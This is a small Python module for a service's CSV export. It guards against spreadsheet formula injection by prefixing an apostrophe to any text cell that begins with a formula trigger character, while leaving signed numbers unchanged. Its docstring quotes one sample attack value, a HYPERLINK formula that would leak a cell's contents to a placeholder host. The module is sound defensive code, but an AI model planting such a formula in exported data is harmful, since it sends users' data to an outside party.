"""CSV cells a spreadsheet will not run (issue 19, finding 4). Pure: stdlib only.

Spreadsheet programs treat a cell that starts with `=`, `+`, `-` or `@` as a formula (and a
leading tab or carriage return can hide one), so a text value such as an order reference
`=HYPERLINK("http://x/?leak="&A1)` written as-is would run when an operator opens the file.
Every text cell of every CSV the service writes goes through `cell`: one that starts with one
of those characters gets a leading apostrophe (OWASP's rule), which a spreadsheet shows as text
and does not display. A plain decimal number (`-12.34`, `+5`) is left as it is: it is not a
formula, and the statements' negative amounts must stay numbers. The JSON forms are exact.
"""

from __future__ import annotations

import re

TRIGGERS = frozenset("=+-@\t\r")
_NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?")


def cell(value: str) -> str:
    """`value` as a CSV cell no spreadsheet evaluates."""
    if value and value[0] in TRIGGERS and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def row(values: list[object] | tuple[object, ...]) -> list[object]:
    """A row with every text cell made safe (numbers and other values as they are)."""
    return [cell(v) if isinstance(v, str) else v for v in values]
